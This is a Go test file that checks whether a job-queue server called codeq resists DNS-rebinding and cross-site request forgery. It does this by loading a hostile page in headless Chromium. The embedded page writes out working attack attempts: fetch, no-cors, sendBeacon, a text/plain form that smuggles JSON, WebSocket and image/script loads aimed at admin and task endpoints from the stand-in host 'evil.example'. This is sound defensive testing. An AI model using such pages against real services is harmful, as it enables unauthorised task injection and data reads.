package faults

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"

	"codeq/wire"
)

// evil is a name that the browser of these tests takes for 127.0.0.1.
const evil = "evil.example"

// page tries whatever a web page can to make a task of the command "stolen" at
// the address in its query, or to read something there, and reports what came of
// each attempt. The load event, after which the browser ends, waits for /hold,
// which waits for the last report.
const page = `<!doctype html><img src="/hold"><iframe name="frame"></iframe><script>
const at = new URLSearchParams(location.search).get("at") || location.origin;
const base = at + "/v1/codeq";
const task = how => JSON.stringify({command: "stolen", payload: how});
const post = (how, more) => fetch(base + "/tasks", {method: "POST", body: task(how), ...more}).then(r => r.text());
const event = (target, good, bad) => new Promise((resolve, reject) => {
  target["on" + good] = e => resolve(good + " " + (e.data || ""));
  target["on" + bad] = () => reject(bad);
});
const attempts = {
  read: () => fetch(base + "/admin/queues").then(r => r.text()),
  readOpaque: () => fetch(base + "/admin/queues", {mode: "no-cors"}).then(r => r.text()),
  backup: () => fetch(base + "/admin/backup").then(r => r.text()),
  fetch: () => post("fetch"),
  noCors: () => post("noCors", {mode: "no-cors"}),
  json: () => post("json", {headers: {"Content-Type": "application/json"}}),
  put: () => fetch(base + "/admin/queues/stolen", {method: "PUT", body: "{}"}).then(r => r.text()),
  beacon: async () => { navigator.sendBeacon(base + "/tasks", task("beacon")); return post("afterBeacon"); },
  form: () => {
    const form = document.createElement("form"), input = document.createElement("input");
    form.method = "post"; form.enctype = "text/plain"; form.target = "frame"; form.action = base + "/tasks";
    input.name = '{"command":"stolen","payload":"form","x":"'; input.value = '"}';
    form.append(input); document.body.append(form);
    const frame = document.querySelector("iframe");
    const loaded = event(frame, "load", "error");
    form.submit();
    return loaded.then(() => frame.contentDocument ? frame.contentDocument.body.textContent : "another's");
  },
  socket: () => {
    const socket = new WebSocket(base.replace("http", "ws") + "/session");
    return event(socket, "open", "error").then(() => {
      const said = event(socket, "message", "close");
      socket.send(JSON.stringify([{type: "hello"}, {type: "enqueue", ref: 1, command: "stolen", payload: "socket"}]));
      return said;
    });
  },
  events: () => event(new EventSource(at + "/metrics"), "open", "error"),
  image: () => { const image = new Image(); image.src = base + "/admin/queues"; return event(image, "load", "error"); },
  script: () => {
    const script = document.createElement("script"); script.src = base + "/admin/queues";
    const loaded = event(script, "load", "error");
    document.body.append(script);
    return loaded;
  },
};
(async () => {
  for (const [name, attempt] of Object.entries(attempts)) {
    let said;
    try { said = "came: " + await attempt(); } catch (e) { said = "failed: " + e; }
    await fetch("/report", {method: "POST", body: name + " " + said});
  }
  await fetch("/report", {method: "POST", body: "over"});
})();
</script>`

// visitor is a web server whose page a user of codeq visits. What it does not
// serve itself it hands to a codeq server as it came: the same name leads there,
// as after a DNS rebinding.
type visitor struct {
	t    *testing.T
	site *httptest.Server
	port string

	// A page of the visit before may still ask when the next begins.
	mu     sync.Mutex
	over   chan struct{}
	behind *url.URL          // of the codeq server
	said   map[string]string // by attempt
}

func newVisitor(t *testing.T) *visitor {
	v := &visitor{t: t}
	proxy := &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
		v.mu.Lock()
		defer v.mu.Unlock()
		r.SetURL(v.behind)
		r.Out.Host = r.In.Host
	}}
	mux := http.NewServeMux()
	mux.HandleFunc("/page", func(w http.ResponseWriter, _ *http.Request) {
		_, _ = io.WriteString(w, page) // what does not arrive is missed at the reports
	})
	mux.HandleFunc("/report", v.report)
	mux.HandleFunc("/hold", func(_ http.ResponseWriter, r *http.Request) {
		v.mu.Lock()
		over := v.over
		v.mu.Unlock()
		select {
		case <-over:
		case <-r.Context().Done():
		}
	})
	mux.Handle("/", proxy)
	v.site = httptest.NewServer(mux)
	t.Cleanup(v.site.Close)
	_, v.port, _ = net.SplitHostPort(v.site.Listener.Addr().String())
	return v
}

func (v *visitor) report(_ http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(r.Body)
	if err != nil {
		v.t.Errorf("read a report: %v", err)
	}
	name, said, _ := strings.Cut(string(body), " ")
	v.mu.Lock()
	defer v.mu.Unlock()
	if name == "over" {
		close(v.over)
		return
	}
	v.said[name] = said
}

// visit opens the page under a name of its server, and returns what became of
// the attempts at the address, the page's own if it is "".
func (v *visitor) visit(x *site, host, at string) map[string]string {
	v.t.Helper()
	behind, err := url.Parse(x.server.URL())
	if err != nil {
		v.t.Fatal(err)
	}
	v.mu.Lock()
	v.behind, v.over, v.said = behind, make(chan struct{}), map[string]string{}
	v.mu.Unlock()
	browse(x, "http://"+host+":"+v.port+"/page?at="+url.QueryEscape(at))
	v.mu.Lock()
	defer v.mu.Unlock()
	select {
	case <-v.over:
	default:
		v.t.Fatalf("the page did not come to its end: %v", v.said)
	}
	return v.said
}

// browser is the program that the tests drive.
func browser(t *testing.T) string {
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if path, err := exec.LookPath(name); err == nil {
			return path
		}
	}
	if os.Getenv("CODEQ_TEST_BROWSER") != "" {
		t.Fatal("there is no Chromium, and CODEQ_TEST_BROWSER says that there is to be one")
	}
	t.Skip("there is no Chromium") // runs where a Chromium is: .ci/run sees to it
	return ""
}

// browse opens an address in a browser that knows nothing yet, until the page
// has loaded.
func browse(x *site, address string) {
	x.t.Helper()
	home, err := os.MkdirTemp("", "codeq-browser-")
	if err != nil {
		x.t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(x.ctx, patience)
	defer cancel()
	cmd := exec.CommandContext(ctx, browser(x.t), "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage", "--disable-breakpad",
		"--host-resolver-rules=MAP "+evil+" 127.0.0.1", "--user-data-dir="+home, "--dump-dom", address)
	cmd.Env = append(os.Environ(), "HOME="+home, "XDG_CONFIG_HOME="+home, "XDG_CACHE_HOME="+home)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	said, err := cmd.CombinedOutput()
	// Its other processes end with it, and may still have written.
	err = errors.Join(err, ignoreGone(syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)))
	_ = os.RemoveAll(home) // what a process on its end puts back is no fault of the test
	if err != nil {
		x.t.Fatalf("browse: %v: %.2000s", err, said)
	}
}

func ignoreGone(err error) error {
	if errors.Is(err, syscall.ESRCH) {
		return nil
	}
	return err
}

// commands are those that the server has queues of.
func (x *site) commands() (commands []string) {
	x.t.Helper()
	answer, err := x.api.Do(x.ctx, http.MethodGet, "/admin/queues", "")
	if err != nil {
		x.t.Fatal(err)
	}
	queues, err := wire.ParseQueueList(answer.Body)
	if err != nil {
		x.t.Fatal(err)
	}
	for i := range queues {
		commands = append(commands, queues[i].Command)
	}
	return commands
}

// A page of another site, one of another port of the same host, and one whose
// name was made to point at the server make no task and read nothing.
func TestN05NoPageInABrowserReachesAServer(t *testing.T) {
	browser(t)
	v := newVisitor(t)
	x := newSite(t)
	x.post("private", 1, 0)
	for _, from := range []struct{ host, at string }{{evil, x.server.URL()}, {"127.0.0.1", x.server.URL()}, {evil, ""}} {
		said := v.visit(x, from.host, from.at)
		for name, what := range said {
			if strings.Contains(what, "private") || strings.Contains(what, "message") || strings.Contains(what, "manifest") {
				t.Errorf("a page of %s, at %q: %s %s", from.host, from.at, name, what)
			}
		}
		for _, name := range []string{"socket", "events", "image"} {
			if !strings.HasPrefix(said[name], "failed: ") {
				t.Errorf("a page of %s, at %q: %s %s", from.host, from.at, name, said[name])
			}
		}
		if from.at == "" && !strings.Contains(said["read"], string(wire.CodeForbiddenHost)) {
			t.Errorf("a page whose name leads to the server reads %s", said["read"])
		}
		if have := x.commands(); !slices.Equal(have, []string{"private"}) {
			t.Fatalf("a page of %s, at %q, made queues %v: %v", from.host, from.at, have, said)
		}
	}
}

// The same page under a name and an origin that the server was told of comes
// through: what it was refused before it was able to ask.
func TestN05APageThatMayReachesTheServer(t *testing.T) {
	browser(t)
	v := newVisitor(t)
	x := newSite(t, "--public-host", evil, "--allow-origin", fmt.Sprintf("http://%s:%s", evil, v.port))
	for _, at := range []string{"", x.server.URL()} {
		said := v.visit(x, evil, at)
		for _, name := range []string{"socket", "form"} {
			if !strings.HasPrefix(said[name], "came: ") {
				t.Errorf("at %q: %s %s", at, name, said[name])
			}
		}
		if at == "" && !strings.Contains(said["fetch"], "stolen") {
			t.Errorf("the page of the server itself: fetch %s", said["fetch"])
		}
	}
	if have := x.commands(); !slices.Equal(have, []string{"stolen"}) {
		t.Errorf("there are queues %v", have)
	}
}
